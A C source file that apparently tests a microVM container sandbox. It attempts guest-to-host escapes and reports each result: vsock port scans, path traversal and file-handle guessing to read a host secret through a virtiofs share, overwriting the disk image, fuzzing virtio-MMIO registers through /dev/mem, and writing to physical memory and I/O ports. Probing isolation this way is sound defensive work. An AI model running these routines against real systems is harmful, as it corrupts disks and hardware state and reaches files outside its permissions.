/*
 * What root with all capabilities in a container's machine tries on the host: a line "NAME: RESULT"
 * for each attempt.
 *
 *   host_attack vsock
 *   host_attack connect ADDRESS PORT
 *   host_attack share FOLDER SECRET    SECRET: path of a file of the host outside of the share
 *   host_attack disks
 *   host_attack device NAME            of /sys/bus/platform/drivers/virtio-mmio
 *   host_attack holes                  accesses where no device is
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/vm_sockets.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/poll.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define AGENT_PORT 1024
#define PATIENCE_MS 1000
#define PAGE 4096

static void tell(const char *name, const char *result)
{
    printf("%s: %s\n", name, result);
    fflush(stdout);
}

static void tell_errno(const char *name, int failed)
{
    tell(name, failed ? strerrorname_np(errno) : "done");
}

static int dial(const struct sockaddr *address, socklen_t length)
{
    int error = 0;
    socklen_t size = sizeof error;
    int fd = socket(address->sa_family, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0)
        return -1;
    if (connect(fd, address, length) < 0 && errno == EINPROGRESS) {
        struct pollfd wait = {.fd = fd, .events = POLLOUT};
        if (poll(&wait, 1, PATIENCE_MS) == 1)
            getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &size);
        else
            error = ETIMEDOUT;
        errno = error;
    } else {
        error = errno;
    }
    if (error != 0) {
        close(fd);
        errno = error;
        return -1;
    }
    return fd;
}

static int dial_vsock(unsigned cid, unsigned port)
{
    struct sockaddr_vm address = {.svm_family = AF_VSOCK, .svm_cid = cid, .svm_port = port};
    errno = 0;
    return dial((struct sockaddr *)&address, sizeof address);
}

static void count_vsock(const char *name, unsigned cid, unsigned first, unsigned last)
{
    char result[32];
    int open = 0;
    for (unsigned port = first; port <= last; port++) {
        int fd = dial_vsock(cid, port);
        if (fd >= 0) {
            open++;
            close(fd);
        }
    }
    snprintf(result, sizeof result, "%d connections", open);
    tell(name, result);
}

static void try_vsock(void)
{
    count_vsock("vsock to low ports of the host", VMADDR_CID_HOST, 1, 30);
    count_vsock("vsock to the host's port of the agent", VMADDR_CID_HOST, AGENT_PORT, AGENT_PORT);
    count_vsock("vsock to ports of other containers' sockets", VMADDR_CID_HOST, 2048, 2078);
    count_vsock("vsock to the hypervisor", VMADDR_CID_HYPERVISOR, AGENT_PORT, AGENT_PORT);
    int open = 0;
    // The own machine has CID 3, whose agent answers nobody but the host.
    for (unsigned cid = 4; cid < 8; cid++) {
        int fd = dial_vsock(cid, AGENT_PORT);
        open += fd >= 0;
    }
    tell("vsock to agents of other machines", open > 0 ? "connected" : "no connection");
}

static void try_connect(const char *address, const char *port)
{
    char name[64], text[64];
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
    inet_pton(AF_INET, address, &to.sin_addr);
    snprintf(name, sizeof name, "connect %s", address);
    errno = 0;
    int fd = dial((struct sockaddr *)&to, sizeof to);
    if (fd < 0) {
        tell_errno(name, 1);
        return;
    }
    struct pollfd wait = {.fd = fd, .events = POLLIN};
    ssize_t length = poll(&wait, 1, PATIENCE_MS) == 1 ? read(fd, text, sizeof text - 1) : 0;
    text[length > 0 ? length : 0] = 0;
    tell(name, length > 0 ? text : "nothing");
}

static void try_read(const char *name, int fd)
{
    char text[64];
    ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
    if (length < 0) {
        tell_errno(name, 1);
        return;
    }
    text[length] = 0;
    tell(name, text);
    close(fd);
}

// A handle of a FUSE inode has its node number and generation. Numbers that are guessed lead to
// what the machine has looked up in the share, which is its folder here: virtiofsd knows nothing
// else.
static void try_handles(int mount_fd, const char *secret)
{
    struct {
        struct file_handle head;
        uint32_t words[8];
    } handle = {.head = {.handle_bytes = sizeof handle.words}};
    struct stat found;
    int mount_id, others = 0;
    if (name_to_handle_at(mount_fd, ".", &handle.head, &mount_id, 0) < 0) {
        tell_errno("a handle of the share", 1);
        return;
    }
    for (uint32_t node = 0; node < 2000; node++) {
        handle.words[0] = 0;
        handle.words[1] = node;
        handle.words[2] = 0;
        int fd = open_by_handle_at(mount_fd, &handle.head, O_RDONLY | O_NONBLOCK);
        if (fd < 0)
            continue;
        // Above the share's folder there is nothing: its parent is the machine's own folder.
        int up = openat(fd, "..", O_RDONLY | O_DIRECTORY);
        if (fstat(fd, &found) == 0 && S_ISREG(found.st_mode))
            others++;
        if (up >= 0 && openat(up, strrchr(secret, '/') + 1, O_RDONLY) >= 0)
            others++;
        close(up);
        close(fd);
    }
    tell("open_by_handle_at of other files", others > 0 ? "opened" : "nothing");
}

static void try_share(const char *folder, const char *secret)
{
    char path[PATH_MAX], link[PATH_MAX];
    snprintf(path, sizeof path, "%s/../../../../../../../../..%s", folder, secret);
    try_read("the secret by ..", open(path, O_RDONLY));
    snprintf(link, sizeof link, "%s/link", folder);
    unlink(link);
    tell_errno("a link out of the share", symlink(secret, link) < 0);
    try_read("the secret by the link", open(link, O_RDONLY));
    int folder_fd = open(folder, O_RDONLY | O_DIRECTORY);
    snprintf(path, sizeof path, "/proc/self/fd/%d/../..%s", folder_fd, secret);
    try_read("the secret by /proc/self/fd", open(path, O_RDONLY));
    try_handles(folder_fd, secret);
    snprintf(path, sizeof path, "%s/node", folder);
    unlink(path);
    // A node of the machine's own disk, or of the host's? Only the machine itself opens it.
    tell_errno("a device node in the share", mknod(path, S_IFBLK | 0600, makedev(254, 0)) < 0);
    tell_errno("rename out of the share",
               renameat(folder_fd, "link", AT_FDCWD, "/out-of-the-share") < 0);
}

static void try_disks(void)
{
    char name[16];
    int count = 0;
    for (char letter = 'a'; letter <= 'z'; letter++) {
        snprintf(name, sizeof name, "/dev/vd%c", letter);
        int fd = open(name, O_RDONLY);
        count += fd >= 0;
        if (fd >= 0)
            close(fd);
    }
    snprintf(name, sizeof name, "%d", count);
    tell("disks", name);
    int zero = 0;
    int fd = open("/dev/vda", O_RDONLY);
    tell_errno("make the image writable", ioctl(fd, BLKROSET, &zero) < 0);
    close(fd);
    fd = open("/dev/vda", O_RDWR | O_DIRECT);
    void *block;
    if (fd < 0 || posix_memalign(&block, PAGE, PAGE) != 0) {
        tell_errno("write to the image", 1);
        return;
    }
    memset(block, 0x5a, PAGE);
    tell_errno("write to the image", pwrite(fd, block, PAGE, 0) < 0);
    close(fd);
}

static sigjmp_buf back;

static void fault(int signal)
{
    siglongjmp(back, signal);
}

static void write_text(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);
    if (fd >= 0) {
        (void)!write(fd, text, strlen(text));
        close(fd);
    }
}

static volatile uint32_t *map_page(uint64_t address)
{
    int fd = open("/dev/mem", O_RDWR | O_SYNC);
    void *page = fd < 0 ? MAP_FAILED
                        : mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, (off_t)address);
    return page == MAP_FAILED ? NULL : page;
}

static void poke(volatile uint32_t *bank, unsigned at, uint32_t value)
{
    bank[at / 4] = value;
}

// virtio 1.2, 4.2.2: registers of MMIO transports. Queues of sizes and at addresses that lie.
static void try_device(const char *name)
{
    static const uint32_t sizes[] = {0, 3, 0x7fff, 0x10000, 0xffffffff};
    static const uint64_t places[] = {0, 1, 0xfff, 0xd0001000, 0x7ffffff0, 0xfffffffffffff000};
    char path[128], line[128] = "";
    uint64_t address = 0;
    write_text("/sys/bus/platform/drivers/virtio-mmio/unbind", name);
    FILE *file = fopen("/proc/iomem", "r");
    while (file != NULL && fgets(line, sizeof line, file) != NULL) {
        if (strstr(line, name) != NULL)
            address = strtoull(line, NULL, 16);
    }
    snprintf(path, sizeof path, "registers of %s", name);
    volatile uint32_t *bank = address == 0 ? NULL : map_page(address);
    if (bank == NULL) {
        tell_errno(path, 1);
        return;
    }
    for (size_t size = 0; size < sizeof sizes / sizeof *sizes; size++) {
        for (size_t place = 0; place < sizeof places / sizeof *places; place++) {
            poke(bank, 0x70, 0);
            poke(bank, 0x70, 1);
            poke(bank, 0x70, 3);
            poke(bank, 0x24, 1);
            poke(bank, 0x20, 0xffffffff);
            poke(bank, 0x70, 11);
            for (uint32_t queue = 0; queue < 5; queue++) {
                poke(bank, 0x30, queue * 0x3fffffff);
                poke(bank, 0x30, queue);
                poke(bank, 0x38, sizes[size]);
                for (unsigned at = 0x80; at <= 0xa4; at += 4)
                    poke(bank, at, (uint32_t)(places[place] >> (at & 4 ? 32 : 0)));
                poke(bank, 0x44, 1);
            }
            poke(bank, 0x70, 15);
            for (uint32_t queue = 0; queue < 5; queue++)
                poke(bank, 0x50, queue);
        }
    }
    // All registers, with bytes and with words across their ends.
    for (unsigned at = 0; at < 0x200; at++) {
        ((volatile uint8_t *)bank)[at] = 0xff;
        *(volatile uint16_t *)((volatile uint8_t *)bank + at) = 0xffff;
        *(volatile uint64_t *)((volatile uint8_t *)bank + at) = UINT64_MAX;
    }
    tell(path, "written");
}

static void try_holes(void)
{
    static const uint64_t holes[] = {0xd0000000, 0xd0100000, 0xe0000000,
                                     0xfec00000, 0xfee00000, 0x100000000};
    signal(SIGSEGV, fault);
    signal(SIGBUS, fault);
    signal(SIGILL, fault);
    for (volatile size_t i = 0; i < sizeof holes / sizeof *holes; i++) {
        char name[40];
        snprintf(name, sizeof name, "memory at 0x%llx", (unsigned long long)holes[i]);
        volatile uint32_t *page = map_page(holes[i]);
        if (page == NULL) {
            tell_errno(name, 1);
        } else if (sigsetjmp(back, 1) != 0) {
            tell(name, "a fault");
        } else {
            for (unsigned at = 0; at < PAGE / 4; at++)
                page[at] = page[at] + 1;
            tell(name, "accessed");
        }
    }
    if (iopl(3) < 0) {
        tell_errno("ports", 1);
    } else if (sigsetjmp(back, 1) != 0) {
        tell("ports", "a fault");
    } else {
        // Not those that end the machine: the keyboard's, of the reset and of ACPI.
        for (unsigned port = 0x100; port < 0x10000; port++) {
            if (port >= 0x3f8 && port < 0x700)
                continue;
            outb(0xff, (unsigned short)port);
        }
        tell("ports", "written");
    }
}

int main(int count, char **words)
{
    const char *what = count > 1 ? words[1] : "";
    if (strcmp(what, "vsock") == 0)
        try_vsock();
    else if (strcmp(what, "connect") == 0 && count == 4)
        try_connect(words[2], words[3]);
    else if (strcmp(what, "share") == 0 && count == 4)
        try_share(words[2], words[3]);
    else if (strcmp(what, "disks") == 0)
        try_disks();
    else if (strcmp(what, "device") == 0 && count == 3)
        try_device(words[2]);
    else if (strcmp(what, "holes") == 0)
        try_holes();
    else
        return 2;
    return 0;
}
